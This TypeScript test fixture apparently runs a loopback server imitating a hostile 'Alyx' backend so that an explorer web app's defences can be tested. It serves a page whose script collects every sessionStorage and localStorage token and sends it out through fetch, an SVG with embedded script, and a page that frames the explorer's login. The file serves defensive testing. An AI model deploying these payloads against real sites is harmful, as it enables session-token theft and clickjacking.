import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { serveHostileAlyx } from './hostile-alyx.ts';

/** What a hostile page does when its script runs: visible to the test through the explorer's own origin. */
export const PWNED_PATH = '/__explorer/pwned';
export const PWNED_TITLE = 'pwned';

// Reads every token the explorer keeps and reports it; on the explorer's origin this would be a full takeover.
const PWN_PAGE = `<!doctype html><html><head><title>hostile</title></head><body>
<script>
  const loot = JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage } });
  document.title = ${JSON.stringify(PWNED_TITLE)};
  fetch(${JSON.stringify(PWNED_PATH)} + '?loot=' + encodeURIComponent(loot));
</script></body></html>`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(${JSON.stringify(PWNED_PATH)} + '?svg=1')</script></svg>`;

/** A tiny Alyx look-alike gone bad, on loopback: hostile records and schema (hostile-alyx.ts), pages that attack. */
export function startHostileServer(port: number, explorerUrl: string): Server {
  const server = createServer((req, res) => {
    const pathname = (req.url ?? '/').split('?')[0];
    if (serveHostileAlyx(req, res, `http://127.0.0.1:${port}`)) return;
    if (pathname === '/pwn.html') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-disposition': 'inline' });
      res.end(PWN_PAGE);
    } else if (pathname === '/pwn.svg') {
      res.writeHead(200, { 'content-type': 'image/svg+xml' });
      res.end(SVG);
    } else if (pathname === '/frame.html') {
      // Served from this server's own origin: another site trying to frame the explorer's login.
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(
        `<!doctype html><title>framer</title><iframe id="victim" src="${explorerUrl}/sandbox/~/login" onload="this.dataset.loaded='1'"></iframe>`,
      );
    } else {
      res.writeHead(404, { 'content-type': 'text/html' });
      res.end('<h1>Not Found</h1>');
    }
  });
  server.listen(port, '127.0.0.1');
  return server;
}
